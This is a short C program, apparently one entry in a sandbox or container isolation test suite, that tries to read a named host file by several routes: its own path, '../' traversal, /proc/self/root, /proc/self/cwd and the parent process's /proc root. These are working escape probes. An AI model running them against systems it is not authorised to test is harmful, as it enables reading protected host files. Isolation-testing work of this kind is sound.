// Rows 1, 13: a file of the host, by every name it might still have. Usage: paths FILE
#include "attack.h"

static long peek(const char *before, const char *path) {
    char whole[PATH_MAX];
    snprintf(whole, sizeof whole, "%s%s", before, path);
    return open(whole, O_RDONLY | O_NOCTTY);
}

int main(int count, char **arguments) {
    const char *path = count > 1 ? arguments[1] : "/nowhere";
    char starter[64];
    snprintf(starter, sizeof starter, "/proc/%d/root", getppid());
    TRY("by its path", peek("", path));
    TRY("by dots", peek("../../../../../../../../../..", path));
    TRY("by the root of /proc", peek("/proc/self/root", path));
    TRY("by the working directory of /proc", peek("/proc/self/cwd/../../../../../../../../..", path));
    TRY("by the starter's root", peek(starter, path));
    return 0;
}
